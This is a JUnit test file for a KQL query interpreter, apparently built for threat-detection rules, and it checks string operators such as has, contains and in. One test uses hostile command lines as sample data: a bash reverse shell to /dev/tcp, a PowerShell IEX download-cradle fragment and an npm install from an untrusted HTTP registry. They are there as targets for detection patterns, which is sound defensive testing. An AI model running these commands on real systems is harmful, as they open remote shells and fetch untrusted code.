package dev.hookline.kql;

import static dev.hookline.kql.Q.fileName;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

class HasMatchesWholeTermsAndPhrasesTest {
    @Test
    void hasNeedsAWholeTerm() {
        assertFalse(fileName("FileName has \"Explorer\"", "KustoExplorerQueryRun"));
        assertTrue(fileName("FileName has \"node\"", "node.exe"));
        assertTrue(fileName("FileName has \"npm\"", "npm.cmd"));
        assertTrue(fileName("FileName has \"python3\"", "python3.11"));
        assertFalse(fileName("FileName has \"python\"", "python3.11"));
        assertFalse(fileName("FileName has \"pip\"", "pipx"));
        assertTrue(fileName("FileName has \"exe\"", "node.exe"));
    }

    @Test
    void hasIsCaseInsensitiveAndHasCsIsNot() {
        assertTrue(fileName("FileName has \"NODE\"", "node.exe"));
        assertTrue(fileName("FileName has \"node\"", "NODE.EXE"));
        assertFalse(fileName("FileName has_cs \"node\"", "Node.exe"));
        assertTrue(fileName("FileName has_cs \"Node\"", "Node.exe"));
        assertTrue(fileName("FileName !has_cs \"node\"", "Node.exe"));
        assertFalse(fileName("FileName !has \"node\"", "Node.exe"));
        assertTrue(fileName("FileName !has \"Explorer\"", "KustoExplorerQueryRun"));
    }

    @Test
    void punctuatedNeedleMatchesAsPhraseOnTermBoundaries() {
        String cmd = "sh -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'";
        assertTrue(Q.test("ProcessCommandLine has \"bash -i\"", Q.proc("ProcessCommandLine", cmd)));
        assertTrue(Q.test("ProcessCommandLine has \"/dev/tcp\"", Q.proc("ProcessCommandLine", cmd)));
        assertFalse(Q.test("ProcessCommandLine has \"bash -i\"", Q.proc("ProcessCommandLine", "bash -interactive")));
        assertFalse(Q.test("ProcessCommandLine has \"bash -i\"", Q.proc("ProcessCommandLine", "rbash -i")));
        assertTrue(Q.test("ProcessCommandLine has \"IEX(\"", Q.proc("ProcessCommandLine", "powershell IEX(New-Object Net.WebClient)")));
        assertTrue(Q.test("ProcessCommandLine has \"IEX(\"", Q.proc("ProcessCommandLine", "powershell iex(x)")));
        assertFalse(Q.test("ProcessCommandLine has \"IEX(\"", Q.proc("ProcessCommandLine", "powershell XIEX(x)")));
        assertTrue(Q.test("FolderPath has \".github/workflows\"", Q.proc("FolderPath", "/repo/.github/workflows/ci.yml")));
        assertTrue(Q.test("ProcessCommandLine has \"--registry http://\"",
                Q.proc("ProcessCommandLine", "npm install --registry http://10.1.1.1:4873/ evil")));
        assertFalse(Q.test("ProcessCommandLine has \"--registry http://\"",
                Q.proc("ProcessCommandLine", "npm install --registry https://registry.npmjs.org/")));
    }

    @Test
    void hasAnyAndHasAllApplyTheRulePerElement() {
        assertTrue(fileName("FileName has_any (\"pip\", \"node\")", "node.exe"));
        assertFalse(fileName("FileName has_any (\"pip\", \"nod\")", "node.exe"));
        assertTrue(fileName("FileName has_all (\"node\", \"exe\")", "node.exe"));
        assertFalse(fileName("FileName has_all (\"node\", \"cmd\")", "node.exe"));
        assertTrue(Q.test("ProcessCommandLine has_any (\"IEX(\", \"/dev/tcp\")",
                Q.proc("ProcessCommandLine", "cat /dev/tcp/1.1.1.1/80")));
    }

    @Test
    void letBoundDynamicArrayWorksWithHasAnyAndIn() {
        String q = "let L = dynamic([\"npm\", [\"node.exe\", \"yarn\"]]);\n"
                + "DeviceProcessEvents | where FileName has_any (L) | where FileName in (L) | project FileName";
        ResultTable r = Q.run(q, Q.proc("FileName", "node.exe"), Q.proc("FileName", "npm"),
                Q.proc("FileName", "npm.cmd"), Q.proc("FileName", "bash"));
        org.junit.jupiter.api.Assertions.assertEquals(java.util.List.of("node.exe", "npm"), Q.column(r, "FileName"));
    }

    @Test
    void containsStartsWithEndsWithFollowCase() {
        assertTrue(fileName("FileName contains \"explorer\"", "KustoExplorerQueryRun"));
        assertFalse(fileName("FileName contains_cs \"explorer\"", "KustoExplorerQueryRun"));
        assertTrue(fileName("FileName contains_cs \"Explorer\"", "KustoExplorerQueryRun"));
        assertTrue(fileName("FileName !contains \"zzz\"", "KustoExplorerQueryRun"));
        assertFalse(fileName("FileName !contains_cs \"Explorer\"", "KustoExplorerQueryRun"));
        assertTrue(fileName("FileName startswith \"KUSTO\"", "KustoExplorer"));
        assertFalse(fileName("FileName startswith_cs \"KUSTO\"", "KustoExplorer"));
        assertTrue(fileName("FileName !startswith \"x\"", "KustoExplorer"));
        assertTrue(fileName("FileName endswith \".EXE\"", "cmd.exe"));
        assertFalse(fileName("FileName endswith_cs \".EXE\"", "cmd.exe"));
        assertFalse(fileName("FileName !endswith \".exe\"", "cmd.exe"));
        assertTrue(fileName("FileName !endswith_cs \".EXE\"", "cmd.exe"));
    }

    @Test
    void equalityAndInFollowCase() {
        assertFalse(fileName("FileName == \"CMD.EXE\"", "cmd.exe"));
        assertTrue(fileName("FileName =~ \"CMD.EXE\"", "cmd.exe"));
        assertTrue(fileName("FileName != \"CMD.EXE\"", "cmd.exe"));
        assertFalse(fileName("FileName !~ \"CMD.EXE\"", "cmd.exe"));
        assertFalse(fileName("FileName in (\"CMD.EXE\", \"bash\")", "cmd.exe"));
        assertTrue(fileName("FileName in~ (\"CMD.EXE\", \"bash\")", "cmd.exe"));
        assertTrue(fileName("FileName !in (\"CMD.EXE\")", "cmd.exe"));
        assertFalse(fileName("FileName !in~ (\"CMD.EXE\")", "cmd.exe"));
    }

    @Test
    void stringLiteralForms() {
        assertTrue(fileName("FileName == 'a\\'b'", "a'b"));
        assertTrue(fileName("FileName == \"a\\\"b\\\\c\"", "a\"b\\c"));
        assertTrue(fileName("FileName == @\"C:\\Windows\\x.exe\"", "C:\\Windows\\x.exe"));
        assertTrue(fileName("FileName == @'C:\\temp' // trailing comment", "C:\\temp"));
    }
}
